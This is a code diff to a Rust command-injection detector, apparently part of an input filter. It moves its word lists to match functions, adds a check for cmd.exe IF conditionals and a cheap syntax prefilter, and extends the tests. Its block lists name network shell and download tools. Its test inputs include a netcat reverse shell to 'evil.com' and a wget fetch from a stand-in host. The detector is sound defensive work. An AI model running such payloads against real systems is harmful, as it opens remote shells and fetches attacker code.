@@ -3,65 +3,90 @@
 //! `id`) only count with the arguments an attacker gives them (`cat /etc/passwd`, `sleep 5`, `id`
 //! at the end), so "Tom & Jerry; cat lovers" is not an attack.
 
+use super::signals::WordSet;
 use super::{Detector, Hit, Normalized, Place, CRITICAL, ERROR};
 
-/// Commands that nobody types into a form field.
-const RARE: [&str; 48] = [
-    "whoami",
-    "uname",
-    "ifconfig",
-    "ipconfig",
-    "netstat",
-    "wget",
-    "curl",
-    "bash",
-    "sh",
-    "zsh",
-    "ksh",
-    "csh",
-    "dash",
-    "nc",
-    "ncat",
-    "netcat",
-    "telnet",
-    "python",
-    "python3",
-    "perl",
-    "ruby",
-    "php",
-    "node",
-    "powershell",
-    "pwsh",
-    "cmd",
-    "cmd.exe",
-    "certutil",
-    "bitsadmin",
-    "chmod",
-    "chown",
-    "passwd",
-    "useradd",
-    "systeminfo",
-    "tasklist",
-    "nslookup",
-    "dig",
-    "traceroute",
-    "base64",
-    "xxd",
-    "busybox",
-    "rm",
-    "mkfifo",
-    "crontab",
-    "sudo",
-    "su",
-    "socat",
-    "msfconsole",
-];
+/// Commands that nobody types into a form field. (a `match`: a length switch, then one comparison)
+fn rare(word: &str) -> bool {
+    matches!(
+        word,
+        "whoami"
+            | "uname"
+            | "ifconfig"
+            | "ipconfig"
+            | "netstat"
+            | "wget"
+            | "curl"
+            | "bash"
+            | "sh"
+            | "zsh"
+            | "ksh"
+            | "csh"
+            | "dash"
+            | "nc"
+            | "ncat"
+            | "netcat"
+            | "telnet"
+            | "python"
+            | "python3"
+            | "perl"
+            | "ruby"
+            | "php"
+            | "node"
+            | "powershell"
+            | "pwsh"
+            | "cmd"
+            | "cmd.exe"
+            | "certutil"
+            | "bitsadmin"
+            | "chmod"
+            | "chown"
+            | "passwd"
+            | "useradd"
+            | "systeminfo"
+            | "tasklist"
+            | "nslookup"
+            | "dig"
+            | "traceroute"
+            | "base64"
+            | "xxd"
+            | "busybox"
+            | "rm"
+            | "mkfifo"
+            | "crontab"
+            | "sudo"
+            | "su"
+            | "socat"
+            | "msfconsole"
+    )
+}
 
-/// Commands that are also words: they need attacker-shaped arguments.
-const WORDLIKE: [&str; 20] = [
-    "cat", "ls", "id", "sleep", "ping", "echo", "env", "set", "type", "dir", "more", "less",
-    "head", "tail", "find", "kill", "who", "ps", "printenv", "expr",
-];
+/// Commands that are also words: they need attacker-shaped arguments. (a `match`: a length switch, then one comparison)
+fn wordlike(word: &str) -> bool {
+    matches!(
+        word,
+        "cat"
+            | "ls"
+            | "id"
+            | "sleep"
+            | "ping"
+            | "echo"
+            | "env"
+            | "set"
+            | "type"
+            | "dir"
+            | "more"
+            | "less"
+            | "head"
+            | "tail"
+            | "find"
+            | "kill"
+            | "who"
+            | "ps"
+            | "printenv"
+            | "expr"
+    )
+}
 
 fn command_word(s: &str) -> (&str, &str) {
     let s = s.trim_start_matches([' ', '\t', '"', '\'', '(', '{']);
@@ -86,7 +111,7 @@ fn attacker_args(word: &str, rest: &str) -> bool {
 }
 
 /// PowerShell verbs and idioms that download or run code.
-const POWERSHELL: [&str; 14] = [
+static POWERSHELL: WordSet = WordSet::new(&[
     "invoke-webrequest",
     "invoke-expression",
     "invoke-command",
@@ -101,7 +126,7 @@ const POWERSHELL: [&str; 14] = [
     "new-object net.webclient",
     "-encodedcommand",
     "frombase64string",
-];
+]);
 
 /// The shell's own view of a value: quotes, backslashes and carets removed, as `c'a't`,
 /// `ca\t` and `w^hoami` all run the same command.
@@ -113,7 +138,33 @@ fn unquoted(l: &str) -> Option<String> {
     })
 }
 
+/// cmd.exe conditionals: `IF EXIST file CMD`, `IF NOT EXIST`, `IF ERRORLEVEL 1`, at the start of
+/// a value or after a separator (`c` has whitespace runs collapsed).
+fn cmd_conditional(c: &str) -> bool {
+    if !c.contains("if ") {
+        return false;
+    }
+    [
+        "if exist ",
+        "if not exist ",
+        "if errorlevel ",
+        "if defined ",
+        "if /i ",
+    ]
+    .iter()
+    .any(|cond| {
+        c.match_indices(cond).any(|(p, _)| {
+            let before = c[..p].trim_end();
+            before.is_empty() || before.ends_with(['&', '|', ';', '\n', '('])
+        })
+    })
+}
+
 pub fn check(v: &Normalized<'_>, place: Place, out: &mut Vec<Hit>) {
+    if cmd_conditional(v.compact.as_ref()) {
+        out.push(Hit::new(Detector::Cmdi, "cmd-conditional", CRITICAL, 1));
+        return;
+    }
     let before = out.len();
     check_view(v.lower.as_ref(), place, out);
     if out.len() == before && place != Place::JsonString {
@@ -147,11 +198,22 @@ fn markdown_code(l: &str, at: usize, place: Place) -> bool {
 }
 
 fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
-    for ps in POWERSHELL {
-        if l.contains(ps) {
-            out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
-            return;
+    // Which syntax is present at all, in one pass: most values of prose have none of it, and
+    // each substring search below would otherwise run on them.
+    let (mut dollar, mut paren, mut tick, mut gt, mut pct) = (false, false, false, false, false);
+    for b in l.bytes() {
+        match b {
+            b'$' => dollar = true,
+            b'(' => paren = true,
+            b'`' => tick = true,
+            b'>' => gt = true,
+            b'%' => pct = true,
+            _ => {}
         }
+    }
+    if POWERSHELL.found_in(l) {
+        out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
+        return;
     }
     if let Some(p) = l.find("powershell") {
         if l[p + 10..]
@@ -164,7 +226,10 @@ fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
         }
     }
     // cmd.exe loops: `for /f %i in (...) do ...`.
-    if let Some(p) = l.find("for ").or_else(|| l.find("for/")) {
+    if let Some(p) = pct
+        .then(|| l.find("for ").or_else(|| l.find("for/")))
+        .flatten()
+    {
         let rest = &l[p..];
         if rest.contains('%') && rest.contains(" in") && rest.contains("do") && rest.contains('(') {
             out.push(Hit::new(Detector::Cmdi, "cmd-for-loop", CRITICAL, 1));
@@ -173,9 +238,9 @@ fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
     }
     // Process substitution: `<(cat file)`, `>(tee log)`.
     for open in ["<(", ">("] {
-        if let Some(p) = l.find(open) {
+        if let Some(p) = paren.then(|| l.find(open)).flatten() {
             let (word, _) = command_word(&l[p + 2..]);
-            if RARE.contains(&word) || WORDLIKE.contains(&word) || word == "tee" {
+            if rare(word) || wordlike(word) || word == "tee" {
                 out.push(Hit::new(
                     Detector::Cmdi,
                     "process-substitution",
@@ -193,15 +258,15 @@ fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
         return;
     }
     // Bash arithmetic and parameter expansion tricks: `$((...))`, `$[..]`, `${x#...}`.
-    if l.contains("$((") || l.contains("$[") {
+    if dollar && (l.contains("$((") || l.contains("$[")) {
         out.push(Hit::new(Detector::Cmdi, "shell-expansion", ERROR, 1));
         return;
     }
     // Substitution runs a command wherever it stands.
-    for open in ["$(", "`", "${ifs}"] {
-        if let Some(p) = l.find(open) {
+    for (open, present) in [("$(", dollar), ("`", tick), ("${ifs}", dollar)] {
+        if let Some(p) = present.then(|| l.find(open)).flatten() {
             let (word, rest) = command_word(&l[p + open.len()..]);
-            if RARE.contains(&word) || (WORDLIKE.contains(&word) && attacker_args(word, rest)) {
+            if rare(word) || (wordlike(word) && attacker_args(word, rest)) {
                 if open == "`" && markdown_code(l, p, place) {
                     // Markdown's inline code (`ls -la`) in a sentence: only at paranoia 2.
                     out.push(Hit::new(Detector::Cmdi, "substitution-in-prose", ERROR, 2));
@@ -212,26 +277,26 @@ fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
             }
         }
     }
-    let seps: &[&str] = if place == Place::JsonString {
+    let seps: &[char] = if place == Place::JsonString {
         // Newlines are ordinary in JSON text.
-        &[";", "|", "&"]
+        &[';', '|', '&']
     } else {
-        &[";", "|", "&", "\n"]
+        &[';', '|', '&', '\n']
     };
-    for sep in seps {
+    {
         let mut from = 0;
-        while let Some(p) = l[from..].find(sep) {
-            let at = from + p + sep.len();
+        while let Some(p) = l[from..].find(seps) {
+            let at = from + p + 1;
             let after = l[at..].trim_start_matches(['|', '&']);
             let (word, rest) = command_word(after);
-            if RARE.contains(&word)
+            if rare(word)
                 && (rest.is_empty()
                     || rest.starts_with([' ', '\t', ';', '|', '&', '$', '<', '>', '\'', '"']))
             {
                 out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                 return;
             }
-            if WORDLIKE.contains(&word) && attacker_args(word, rest) {
+            if wordlike(word) && attacker_args(word, rest) {
                 out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                 return;
             }
@@ -239,7 +304,7 @@ fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
         }
     }
     // Paranoia 2: `${IFS}` tricks and redirections to files.
-    if l.contains("${ifs") || l.contains(">/dev/") || l.contains("2>&1") {
+    if (dollar && l.contains("${ifs")) || (gt && (l.contains(">/dev/") || l.contains("2>&1"))) {
         out.push(Hit::new(Detector::Cmdi, "shell-syntax", ERROR, 2));
     }
 }
@@ -268,6 +333,8 @@ mod tests {
             "test|nc evil.com 4444 -e /bin/sh",
             "& ping -c 10 127.0.0.1 &",
             "x\nwget http://evil/a",
+            "IF   EXIST C:\\pagefile.sys  CMD",
+            "x & if not exist c:\\x (echo y)",
         ] {
             assert!(blocked(s, Place::Query), "{s}");
         }
@@ -283,6 +350,8 @@ mod tests {
             "costs $5 & more",
             "a | b | c",
             "echo chamber",
+            "I wonder if exist is a word; it is not",
+            "the file does not exist",
         ] {
             assert!(!blocked(s, Place::JsonString), "{s}");
         }
